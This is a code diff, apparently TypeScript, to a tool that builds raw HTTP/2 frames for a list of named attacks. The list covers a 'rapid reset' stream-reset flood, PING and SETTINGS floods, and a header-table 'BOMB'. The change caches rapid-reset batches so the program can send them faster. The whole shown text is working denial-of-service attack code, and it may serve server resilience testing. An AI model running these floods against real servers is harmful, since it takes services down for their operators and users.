@@ -45,12 +45,22 @@ const BOMB = Buffer.concat([
   ...Array.from({ length: 100 }, () => rawHttp2.NEWEST_ENTRY),
 ]);
 
+const resetBatches: Buffer[] = [];
+
+/** Made once for all connections: making them takes this program longer than sending them. */
+const resets = (batch: number): Buffer => {
+  resetBatches[batch] ??= many((at) => {
+    const stream = odd(batch * BATCH + at);
+    return Buffer.concat([headers(stream, GET), resetStream(stream)]);
+  });
+  return resetBatches[batch];
+};
+
 const ATTACKS: readonly Attack[] = [
   {
     name: "rapid reset",
     opening: settings(),
-    batch: (batch) =>
-      many((at) => Buffer.concat([headers(odd(batch * BATCH + at), GET), resetStream(odd(batch * BATCH + at))])),
+    batch: resets,
   },
   { name: "PING", opening: settings(), batch: () => many(() => rawHttp2.ping()) },
   { name: "SETTINGS", opening: settings(), batch: () => many(() => settings([[1, 4096]])) },
